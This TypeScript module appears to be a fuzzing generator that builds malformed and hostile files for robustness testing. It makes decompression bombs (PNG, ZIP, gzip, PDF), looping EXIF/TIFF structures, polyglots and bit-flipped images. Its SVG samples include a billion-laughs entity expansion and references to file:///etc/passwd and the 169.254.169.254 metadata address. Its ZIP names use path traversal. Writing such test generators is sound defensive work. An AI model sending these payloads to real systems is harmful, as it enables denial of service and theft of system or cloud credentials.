/** Files made to break who opens them, each from a number alone: bombs, liars, cripples, two in one, and real ones with bits turned. */
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import * as files from '../exhibits/files.ts'
import { seeded } from './seeded.ts'

export type HostileFile = { family: string; name: string; bytes: Buffer }

const crcTable = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8)
  return (crc ^ 0xffffffff) >>> 0
}
const be32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}
const le16 = (value: number): Buffer => Buffer.from([value & 0xff, (value >> 8) & 0xff])
const le32 = (value: number): Buffer => Buffer.from([0, 8, 16, 24].map((shift) => (value >>> shift) & 0xff))

function chunk(kind: string, data: Buffer, crc?: number): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data])
  return Buffer.concat([be32(data.length), body, be32(crc ?? crc32(body))])
}
const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const ihdr = (width: number, height: number, depth = 8, colour = 6): Buffer =>
  chunk('IHDR', Buffer.concat([be32(width), be32(height), Buffer.from([depth, colour, 0, 0, 0])]))

/** A PNG whose data unfolds to `bytes` zeros, whatever its header says. */
const pngBomb = (width: number, height: number, bytes: number): Buffer =>
  Buffer.concat([
    pngHead,
    ihdr(width, height),
    chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
/** Text in a PNG that unfolds. */
const pngText = (bytes: number): Buffer =>
  Buffer.concat([
    pngHead,
    ihdr(1, 1),
    chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(bytes, 65))])),
    chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(bytes))])),
    chunk('IDAT', deflateSync(Buffer.alloc(5))),
    chunk('IEND', Buffer.alloc(0)),
  ])

/** A GIF of many frames, each as large as the canvas says. */
function gifFrames(width: number, height: number, frames: number): Buffer {
  const head = Buffer.concat([
    Buffer.from('GIF89a'),
    le16(width),
    le16(height),
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
  ])
  const frame = Buffer.concat([
    Buffer.from([0x21, 0xf9, 4, 0, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0]),
    le16(width),
    le16(height),
    Buffer.from([0, 2, 2, 0x4c, 1, 0]),
  ])
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])])
}

/** A ZIP with one entry of zeros, said to be as long as one likes. */
function zipBomb(bytes: number, said: number, name: string): Buffer {
  const data = deflateRawSync(Buffer.alloc(bytes), { level: 9 })
  const about = Buffer.concat([
    le16(20),
    le16(0),
    le16(8),
    le32(0),
    le32(0),
    le32(data.length),
    le32(said),
    le16(name.length),
    le16(0),
  ])
  const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), about, Buffer.from(name), data])
  const central = Buffer.concat([
    Buffer.from('PK\u0001\u0002', 'latin1'),
    le16(20),
    about,
    le16(0),
    le16(0),
    le16(0),
    le32(0),
    le32(0),
    Buffer.from(name),
  ])
  const end = Buffer.concat([
    Buffer.from('PK\u0005\u0006', 'latin1'),
    le16(0),
    le16(0),
    le16(1),
    le16(1),
    le32(central.length),
    le32(local.length),
    le16(0),
  ])
  return Buffer.concat([local, central, end])
}

/** A JPEG with EXIF that points into itself, far out or round in a circle. */
function exifLoop(picture: Buffer, offset: number, count: number): Buffer {
  const entry = Buffer.concat([le16(0x8769), le16(4), le32(count), le32(offset)])
  const tiff = Buffer.concat([Buffer.from('II*\0'), le32(8), le16(3), entry, entry, entry, le32(8)])
  const data = Buffer.concat([Buffer.from('Exif\0\0'), tiff])
  const length = Buffer.alloc(2)
  length.writeUInt16BE(data.length + 2)
  return Buffer.concat([picture.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, data, picture.subarray(2)])
}
function tiffLoop(random: () => number): Buffer {
  const count = Math.floor(random() * 400)
  const entry = () =>
    Buffer.concat([
      le16(Math.floor(random() * 65_536)),
      le16(1 + Math.floor(random() * 12)),
      le32(Math.floor(random() * 2 ** 32)),
      le32(Math.floor(random() * 2 ** 32)),
    ])
  return Buffer.concat([
    Buffer.from('II*\0'),
    le32(8),
    le16(count),
    ...Array.from({ length: count }, entry),
    le32(8),
  ])
}

const nestedPdf = (depth: number): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /X ${'['.repeat(depth)}${']'.repeat(depth)}>> endobj\n2 0 obj <</Type /Pages /Kids [2 0 R 3 0 R 1 0 R] /Count 99999999>> endobj\n3 0 obj <</Type /Page /Parent 3 0 R /MediaBox [0 0 1e9 1e9]>> endobj\ntrailer <</Root 1 0 R /Prev 0 /Size 99999999>>\nstartxref\n0\n%%EOF\n`,
  )
const pdfScript = (): Buffer =>
  Buffer.from(
    '%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (while\\(1\\);)>>>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R>> endobj\n4 0 obj <</Length 999999999 /F (file:///etc/passwd)>> stream\nq q q q\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
  )
const box = (kind: string, data: Buffer, length = data.length + 8): Buffer =>
  Buffer.concat([be32(length), Buffer.from(kind, 'latin1'), data])
const isoBoxes = (brand: string, depth: number): Buffer => {
  let inner = box('iloc', Buffer.alloc(64, 0xff))
  for (let n = 0; n < depth; n += 1) inner = box('meta', Buffer.concat([Buffer.alloc(4), inner]))
  return Buffer.concat([
    box('ftyp', Buffer.from(`${brand}\0\0\0\0mif1${brand}`, 'latin1')),
    inner,
    box('mdat', Buffer.alloc(32), 0xffffffff),
  ])
}
const svgs = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>',
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg>&c;</svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/><image href="http://169.254.169.254/"/></svg>',
]

/** Sound ones to start from, made once. */
export type Sound = Record<'jpeg' | 'png' | 'gif' | 'webp' | 'tiff' | 'avif' | 'heic' | 'pdf' | 'zip', Buffer>
export async function soundFiles(): Promise<Sound> {
  const { jpeg, png, gif, webp, tiff, avif, heic, pdf, zip } = files
  return {
    jpeg: await jpeg(160, 120),
    png: await png(),
    gif: await gif(),
    webp: await webp(),
    tiff: await tiff(),
    avif: await avif(),
    heic: await heic(),
    pdf: await pdf(2),
    zip: await zip(),
  }
}

type Making = { random: () => number; sound: Sound }
const kinds = ['jpeg', 'png', 'gif', 'webp', 'tiff', 'avif', 'heic', 'pdf'] as const
const pick = <T>(random: () => number, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T
const whole = (random: () => number, low: number, high: number): number =>
  low + Math.floor(random() * (high - low))
const extremes = [0, 0xff, 0x7f, 0x80, 0x01, 0xfe]

function mutated({ random, sound }: Making, turns: number, within: number): Buffer {
  const bytes = Buffer.from(sound[pick(random, kinds)])
  for (let n = 0; n < turns; n += 1)
    bytes[whole(random, 2, Math.min(bytes.length, within))] = pick(random, [
      ...extremes,
      whole(random, 0, 256),
    ])
  return bytes
}
function spliced({ random, sound }: Making): Buffer {
  const [one, other] = [sound[pick(random, kinds)], sound[pick(random, kinds)]]
  return Buffer.concat([
    one.subarray(0, whole(random, 0, one.length)),
    other.subarray(whole(random, 0, other.length)),
  ])
}
function repeated({ random, sound }: Making): Buffer {
  const one = sound[pick(random, kinds)]
  const from = whole(random, 0, one.length - 4)
  const piece = one.subarray(from, from + whole(random, 4, 64))
  return Buffer.concat([
    one.subarray(0, from),
    ...Array.from({ length: whole(random, 2, 5_000) }, () => piece),
    one.subarray(from),
  ])
}

const families: Record<string, (m: Making) => Buffer> = {
  'bits turned in a head': (m) => mutated(m, whole(m.random, 1, 12), 128),
  'bits turned anywhere': (m) => mutated(m, whole(m.random, 1, 200), Number.POSITIVE_INFINITY),
  'cut short': ({ random, sound }) => {
    const one = sound[pick(random, kinds)]
    return one.subarray(0, whole(random, 1, one.length))
  },
  'cut in the middle': (m) => spliced(m),
  'a piece again and again': (m) => repeated(m),
  'two in one': ({ random, sound }) =>
    Buffer.concat([sound[pick(random, kinds)], sound[pick(random, [...kinds, 'zip'] as const)]]),
  'three in one': ({ random, sound }) =>
    Buffer.concat([
      Buffer.from('<html><script>/*'),
      sound[pick(random, kinds)],
      Buffer.from('*/</script>'),
      sound.zip,
    ]),
  'random behind a head': ({ random, sound }) =>
    Buffer.concat([
      sound[pick(random, kinds)].subarray(0, whole(random, 4, 40)),
      Buffer.from(Array.from({ length: whole(random, 1, 20_000) }, () => whole(random, 0, 256))),
    ]),
  'PNG of huge sides': ({ random }) =>
    pngBomb(
      pick(random, [1, 65_535, 2_147_483_647, 100_000]),
      pick(random, [65_535, 2_147_483_647, 0]),
      10_000,
    ),
  'PNG bomb': ({ random }) => pngBomb(whole(random, 9_000, 40_000), whole(random, 9_000, 40_000), 24_000_000),
  'PNG text bomb': () => pngText(30_000_000),
  'PNG lengths': ({ random }) =>
    Buffer.concat([
      pngHead,
      be32(pick(random, [0x7fffffff, 0xffffffff, 0])),
      Buffer.from('IHDR'),
      Buffer.alloc(40),
      chunk('IDAT', Buffer.alloc(9), 0),
    ]),
  'GIF frames': ({ random }) =>
    gifFrames(whole(random, 1, 65_535), whole(random, 1, 65_535), whole(random, 1, 3_000)),
  'ZIP bomb': ({ random }) =>
    zipBomb(
      20_000_000,
      pick(random, [1, 20_000_000, 0xffffffff]),
      pick(random, ['a', '../../a', '/etc/passwd', 'a\0b']),
    ),
  'gzip bomb': () => gzipSync(Buffer.alloc(20_000_000)),
  'PDF bomb': ({ random }) => files.pdfBomb(whole(random, 20, 90) * 1024 * 1024),
  'PDF stream of many folds': ({ random }) =>
    files.pdfWithStream(Buffer.alloc(whole(random, 1, 2_000_000), 'q '), whole(random, 1, 14)),
  'PDF nested': ({ random }) => nestedPdf(whole(random, 10, 200_000)),
  'PDF that acts': () => pdfScript(),
  'EXIF round in a circle': ({ random, sound }) =>
    exifLoop(
      sound.jpeg,
      pick(random, [8, 0, 0xffffffff, whole(random, 0, 200)]),
      pick(random, [1, 0xffffffff, 0x7fffffff]),
    ),
  'TIFF of lies': ({ random }) => tiffLoop(random),
  'boxes in boxes': ({ random }) => isoBoxes(pick(random, ['heic', 'avif', 'mif1']), whole(random, 1, 3_000)),
  'drawing that calls out': ({ random }) => Buffer.from(pick(random, svgs)),
  'one byte': ({ random }) => Buffer.alloc(whole(random, 1, 40), pick(random, extremes)),
}
const familyNames = Object.keys(families)
export const fileFamilies = familyNames.length

/** The n-th hostile file. */
export function hostileFile(n: number, sound: Sound): HostileFile {
  const random = seeded(n * 104_729 + 7)
  const family = familyNames[n % familyNames.length] ?? ''
  const bytes = families[family]?.({ random, sound }) ?? Buffer.alloc(0)
  return {
    family,
    name: pick(random, ['a.jpg', 'b.png', 'c.pdf', 'd.gif', 'e.webp', 'f.heic', 'g.tiff', 'h']),
    bytes,
  }
}
